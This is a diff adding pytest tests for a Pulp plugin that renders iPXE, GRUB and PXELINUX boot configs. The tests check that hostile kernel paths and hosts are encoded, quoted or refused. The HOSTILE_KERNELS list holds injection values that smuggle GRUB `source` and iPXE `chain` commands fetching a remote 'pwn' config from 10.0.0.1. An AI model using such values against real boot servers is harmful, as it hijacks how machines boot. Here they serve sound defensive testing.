@@ -1,5 +1,7 @@
 """The generated iPXE, GRUB and PXELINUX configs of a served tree."""
 
+import re
+
 import pytest
 
 from pulp_bootfiles.app import bootconfigs
@@ -121,7 +123,7 @@ def test_a_tree_without_kernel_or_initrd_has_no_configs(missing):
 
 def test_no_extra_args_leaves_only_the_stage2():
     boot = TreeBoot.from_files(URL, "Fedora 40", X86_FILES)
-    assert boot.cmdline == f"inst.stage2={URL}"
+    assert boot.cmdline == (f"inst.stage2={URL}",)
 
 
 def test_title_cannot_break_out_of_its_quotes():
@@ -228,3 +230,97 @@ def test_grub_cfg_beside_each_grub_binary(files, name, served):
     boot = TreeBoot.from_files(URL, "Fedora 40", files)
     text = bootconfigs.render(name, boot)
     assert (text == bootconfigs.render("grub.cfg", boot)) if served else (text is None)
+
+
+# Paths the sync refuses (formats.paths), made to inject config syntax: the configs do not rely
+# on that refusal.
+HOSTILE_KERNELS = [
+    "images/x;source (http,10.0.0.1:80)/pwn.cfg;y/vmlinuz",  # GRUB: `;` then a command
+    "images/x ${next} || chain http://10.0.0.1/pwn.ipxe/vmlinuz",  # iPXE: expansion, `||`
+    "images/x\nboot\n#/vmlinuz",  # a new line in any of the three
+    'images/it\'s "x" {}/vmlinuz',  # quotes and braces
+    "images/%2e%2e/vmlinuz",
+]
+
+
+@pytest.mark.parametrize("kernel", HOSTILE_KERNELS)
+@pytest.mark.parametrize("name", ["boot.ipxe", "grub.cfg", "pxelinux.cfg/default"])
+def test_a_hostile_path_is_one_percent_encoded_word_in_every_config(kernel, name):
+    hostile = bootconfigs.render(name, x86(files={"vmlinuz": kernel}))
+    encoded = bootconfigs.url_path(kernel)
+    assert re.fullmatch(r"[A-Za-z0-9/._~+@,=%-]+", encoded), encoded
+    # The config is the usual one with the encoded path where the kernel's path goes.
+    usual = bootconfigs.render(name, x86()).replace("images/pxeboot/vmlinuz", encoded)
+    assert hostile == usual
+
+
+@pytest.mark.parametrize(
+    "value, word",
+    [
+        ("(http,pulp:8080)/pulp/content/f/40/x86_64/images/pxeboot/vmlinuz", None),
+        ("console=ttyS0,115200n8", None),
+        ("Fedora 40 x86_64", "'Fedora 40 x86_64'"),
+        ("x;source", "'x;source'"),
+        ("$root", "'$root'"),
+        ("${root}", "'${root}'"),
+        ("#comment", "'#comment'"),
+        ("}", "'}'"),
+        ("a|b&c<d>e", "'a|b&c<d>e'"),
+        ('say "x"', "'say \"x\"'"),
+        ("a\\b", "'a\\b'"),
+        ("a\nb", "'a\nb'"),
+        ("it's", "'it'\\''s'"),
+        ("''", "''\\'''\\'''"),
+    ],
+)
+def test_grub_words_are_quoted_where_grubs_lexer_would_read_syntax(value, word):
+    assert bootconfigs.grub_word(value) == (value if word is None else word)
+
+
+@pytest.mark.parametrize(
+    "word", ["a b", "a\tb", "a\nb", "${next}", "x${y}z", "#x", "||", "&&", ";", ""]
+)
+def test_ipxe_words_that_ipxe_would_read_as_syntax_are_refused(word):
+    with pytest.raises(ValueError, match="cannot be written into an iPXE script"):
+        bootconfigs.ipxe_word(word)
+
+
+@pytest.mark.parametrize("word", ["http://h/ks.cfg?a=1&b=2", "a#b", "$x", "a||b", "inst.text"])
+def test_ipxe_words_it_passes_on_as_they_are(word):
+    assert bootconfigs.ipxe_word(word) == word
+
+
+@pytest.mark.parametrize("word", ["a b", "a\nb", "a\x00", ""])
+def test_pxelinux_words_are_single_words_on_one_line(word):
+    with pytest.raises(ValueError, match="cannot be written into a PXELINUX config"):
+        bootconfigs.pxelinux_word(word)
+
+
+def test_tree_url_percent_encodes_its_path():
+    url = bootconfigs.tree_url("http://pulp", "/pulp/content/", "a b;c${d}", "40", "x86_64")
+    assert url == "http://pulp/pulp/content/a%20b%3Bc%24%7Bd%7D/40/x86_64"
+
+
+@pytest.mark.parametrize(
+    "host, refused_by",
+    [
+        ("pulp x:80", {"iPXE", "GRUB", "PXELINUX"}),
+        ("pulp${x}", {"iPXE", "GRUB"}),
+        ("pulp;x", {"GRUB"}),  # one iPXE word: `;` ends a command only as a word of its own
+        ("pulp'x", {"GRUB"}),
+    ],
+)
+def test_an_origin_a_config_cannot_hold_is_refused(host, refused_by):
+    boot = TreeBoot.from_files(f"http://{host}/pulp/content/f/40/x86_64", "F", X86_FILES)
+    configs = {"iPXE": "boot.ipxe", "GRUB": "grub.cfg", "PXELINUX": "pxelinux.cfg/default"}
+    for language, name in configs.items():
+        if language in refused_by:
+            with pytest.raises(ValueError, match=language):
+                bootconfigs.render(name, boot)
+        else:
+            assert f"http://{host}/pulp/content/f/40/x86_64" in bootconfigs.render(name, boot)
+
+
+@pytest.mark.parametrize("host", ["pulp.example.com:8080", "10.0.0.1", "[fd00::1]:80"])
+def test_grub_fetches_from_hosts_and_ports(host):
+    assert bootconfigs.grub_http_path(f"http://{host}/x") == f"(http,{host})/x"
